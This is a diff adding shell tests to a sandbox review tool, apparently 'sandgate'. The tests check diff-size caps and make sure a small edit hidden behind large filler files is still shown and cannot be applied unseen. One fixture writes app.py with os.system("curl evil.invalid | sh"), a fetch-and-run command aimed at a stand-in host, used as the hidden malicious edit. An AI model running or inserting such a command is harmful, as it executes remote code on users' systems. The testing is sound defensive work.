@@ -156,9 +156,56 @@ mkdir "$W/L"
 awk 'BEGIN{for(i=0;i<16384;i++) printf "%063d\n", i}' >"$W/L/f00"
 for i in $(seq -w 1 39); do ln "$W/L/f00" "$W/L/f$i"; done
 sg diff "$ID"; rc=$?
-check "diff of a 1 MiB text file with 40 names: at most --disk of text staged and shown ($rc, $(stat -c %s "$T/out") bytes)" '[ $rc -eq 0 ] && [ "$(stat -c %s "$T/out")" -le $((17 << 20)) ] && grep -q "too large to show" "$T/out"'
+check "diff of a 1 MiB text file with 40 names: at most --disk of text staged and shown ($rc, $(stat -c %s "$T/out") bytes)" '[ $rc -eq 0 ] && [ "$(stat -c %s "$T/out")" -le $((17 << 20)) ] && grep -q "^Text file L/f[0-9]* added: not shown (" "$T/out"'
 sg export --output "$T/e10.zip" "$ID"; rc=$?
 check "export of the same: diff.patch at most --disk ($rc)" '[ $rc -eq 0 ] && python3 -c "import sys, zipfile; assert zipfile.ZipFile(sys.argv[1]).getinfo(\"diff.patch\").file_size <= 17 << 20" "$T/e10.zip"'
+rm -rf "$SANDGATE_STATE/sandboxes/$ID"
+
+# --- diff, export: escaped bytes counted as shown (atk16u F1) -------------------
+# 1 MiB of control bytes and 15 more names for it in a 16 MiB sandbox: the
+# cap counted raw bytes, each shown as \xHH (4x) or \u00HH in the JSON
+# (6x): 64 MiB of diff, 96 MiB of diff --json, both held by export.
+small_sandbox sbx_0123456789abcdef0123bd0b s11
+mkdir "$W/C"
+python3 -c 'import sys; open(sys.argv[1], "wb").write((b"\x01" * 1023 + b"\n") * 1024)' "$W/C/f00"
+for i in $(seq -w 1 15); do ln "$W/C/f00" "$W/C/f$i"; done
+for v in diff "diff --json"; do
+	sg $v "$ID"; rc=$?
+	check "$v of 1 MiB of control bytes with 16 names: at most --disk written ($rc, $(stat -c %s "$T/out") bytes)" '[ $rc -eq 0 ] && [ "$(stat -c %s "$T/out")" -le $((17 << 20)) ]'
+done
+check "diff --json: the names not shown say why (over_total)" 'python3 -c "import json, sys; a = json.load(open(sys.argv[1]))[\"added\"]; assert any(x[\"over_total\"] and not x[\"too_large\"] for x in a)" "$T/out"'
+sg export --output "$T/e11.zip" "$ID"; rc=$?
+check "export of the same: diff.patch and diff.json each at most --disk ($rc)" '[ $rc -eq 0 ] && python3 -c "import sys, zipfile; z = zipfile.ZipFile(sys.argv[1]); assert max(z.getinfo(n).file_size for n in (\"diff.patch\", \"diff.json\")) <= 17 << 20" "$T/e11.zip"'
+rm -rf "$SANDGATE_STATE/sandboxes/$ID"
+
+# --- diff, apply: a small change hidden behind filler (atk16u F3) ----------------
+# 16 names of a 1 MiB text file fill the 16 MiB cap in path order before
+# app.py: its 46-byte edit was shown only as "too large to show" (a false
+# reason) and apply --review D --path app.py (or --all) wrote it. Now the
+# smallest changes are shown first, the rest is "not shown" with the true
+# reason, and apply refuses a file whose text was not shown unless it is
+# named with --unshown.
+small_sandbox sbx_0123456789abcdef0123bd0c s12
+printf 'print("hi")\n' >"$T/s12/app.py"
+rm -rf "$SANDGATE_STATE/sandboxes/$ID"
+sg_fixture_sandbox "$ID" "$T/s12" $((16 << 20))
+mkdir "$W/E"
+python3 -c 'import sys; open(sys.argv[1], "w").write(("a" * 1023 + "\n") * 1024)' "$W/E/f00"
+for i in $(seq -w 1 15); do ln "$W/E/f00" "$W/E/f$i"; done
+printf 'import os\nos.system("curl evil.invalid | sh")\n' >"$W/app.py"
+python3 -c 'import sys; open(sys.argv[1], "w").write(("b" * 99 + "\n") * 12000)' "$W/big.txt"
+sg diff "$ID"; rc=$?
+cp "$T/out" "$T/s12.diff"
+REV=$(awk '/^review /{print $2}' "$T/s12.diff")
+check "diff: the 46-byte edit of app.py is shown behind 16 MiB of filler ($rc)" '[ $rc -eq 0 ] && grep -q "^+os.system(\"curl evil.invalid | sh\")" "$T/s12.diff" && ! grep -q "^Text file app.py" "$T/s12.diff"'
+check "diff: filler past the total is not shown, with the true reason" 'grep -q "^Text file E/f[0-9]* added: not shown (0 bytes before, 1048576 after): the diff shows at most the sandbox.s --disk (16777216 bytes)" "$T/s12.diff" && ! grep -q "^Text file E/.*too large to show" "$T/s12.diff" && grep -q "not shown as the diff.s total\|did not fit" "$T/err"'
+check "diff: a file too large by its own size says so" 'grep -q "^Text file big.txt added: too large to show (0 bytes before, 1200000 after" "$T/s12.diff"'
+sg apply --review "$REV" --path big.txt "$ID"; rc=$?
+check "apply --review --path of a file whose text was not shown: refused (126), named, host untouched" '[ $rc -eq 126 ] && grep -q "^refused big.txt (review [0-9a-f]* did not show its text (too large to show).*--unshown" "$T/out" && [ ! -e "$T/s12/big.txt" ]'
+sg apply --review "$REV" --all "$ID"; rc=$?
+check "apply --review --all: app.py (shown) applied, no unshown file written (126)" '[ $rc -eq 126 ] && grep -q "^applied app.py$" "$T/out" && grep -q "^refused big.txt" "$T/out" && grep -q "^refused E/f[0-9]* (review [0-9a-f]* did not show its text (the diff.s total was reached)" "$T/out" && [ ! -e "$T/s12/big.txt" ] && [ "$(ls "$T/s12/E" 2>/dev/null | wc -l)" -lt 16 ]'
+sg apply --review "$REV" --unshown big.txt "$ID"; rc=$?
+check "apply --review --unshown big.txt: applied as its SHA-256" '[ $rc -eq 0 ] && grep -q "^applied big.txt$" "$T/out" && [ "$(stat -c %s "$T/s12/big.txt")" = 1200000 ]'
 rm -rf "$SANDGATE_STATE/sandboxes/$ID"
 
 # --- apply: a host file made private after create ------------------------------
